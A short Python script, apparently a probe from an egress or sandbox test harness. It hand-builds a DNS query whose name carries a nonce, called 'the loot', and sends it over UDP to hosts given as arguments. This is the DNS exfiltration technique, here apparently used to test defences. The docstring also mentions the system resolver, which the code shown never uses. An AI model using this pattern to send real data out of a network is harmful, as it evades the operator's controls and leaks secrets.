"""Asks a name server, by hand and by the system's own resolver; the name carries the loot."""
import socket
import struct

from attack import arguments, attempt, nonce

port, hosts = int(arguments[0]), arguments[1:]


def ask(host):
    label = nonce.encode()[:60]
    query = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0)
    query += bytes([len(label)]) + label + b"\x00" + struct.pack(">HH", 1, 1)
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.sendto(query, (host, port))


for name in hosts:
    attempt("a question to " + name, lambda: ask(name))
